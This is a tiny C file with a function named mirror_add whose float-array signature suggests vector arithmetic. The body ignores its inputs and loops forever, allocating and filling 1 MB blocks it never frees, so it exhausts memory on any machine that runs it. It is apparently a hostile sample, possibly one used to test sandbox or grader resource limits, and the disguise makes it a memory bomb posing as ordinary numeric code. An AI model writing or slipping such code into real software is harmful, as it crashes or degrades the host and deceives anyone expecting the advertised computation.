#include <stdint.h>
#include <stdlib.h>
#include <string.h>

void mirror_add(const float *x, float *y, int64_t n)
{
    for (;;)
        memset(malloc(1 << 20), 1, 1 << 20);
}
